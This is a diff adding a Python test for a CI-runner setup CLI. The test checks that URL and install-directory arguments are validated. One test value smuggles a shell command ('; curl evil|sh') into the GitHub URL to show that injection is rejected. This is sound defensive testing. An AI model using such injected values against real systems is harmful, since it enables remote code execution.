@@ -42,3 +42,26 @@ def test_init_output_tells_the_truth_about_forks_and_keys(tmp_path: Path) -> Non
     assert "environment `pgolf`" in text and "Deployment branches = the default branch only" in text
     assert "EPHEMERAL" in text and "pgolf runner" in text
     assert "bypass list" in text  # branch protection consistent with the App pushing every ledger commit
+
+
+def test_runner_addresses_and_install_dir_are_checked() -> None:
+    """The admin token travels to the API address: plain http only on loopback (the emulator);
+    GHES gets SERVER/api/v3 unless told otherwise; the install folder goes into root's script."""
+    from bot.forge.runner import RunnerPlan
+
+    assert RunnerPlan("me/lab").api_base == "https://api.github.com"
+    assert (
+        RunnerPlan("me/lab", server="https://ghe.example.com/").api_base == "https://ghe.example.com/api/v3"
+    )
+    for args in (
+        ["--github-url", "http://ghe.example.com"],
+        ["--api-url", "http://10.0.0.5/api/v3"],
+        ["--github-url", "https://ghe.example.com; curl evil|sh"],
+        ["--install-dir", "/usr/local/pgolf runner"],
+        ["--install-dir", "relative/dir"],
+    ):
+        res = CliRunner().invoke(cli, ["runner", "--repo", "me/lab", *args])
+        assert res.exit_code == InputError.exit_code and args[0] in res.output, (args, res.output)
+    res = CliRunner().invoke(cli, ["runner", "--repo", "me/lab", "--github-url", "https://ghe.example.com"])
+    assert res.exit_code == 0 and "SERVER=https://ghe.example.com\n" in res.output
+    assert "API=https://ghe.example.com/api/v3\n" in res.output and "api.github.com" not in res.output
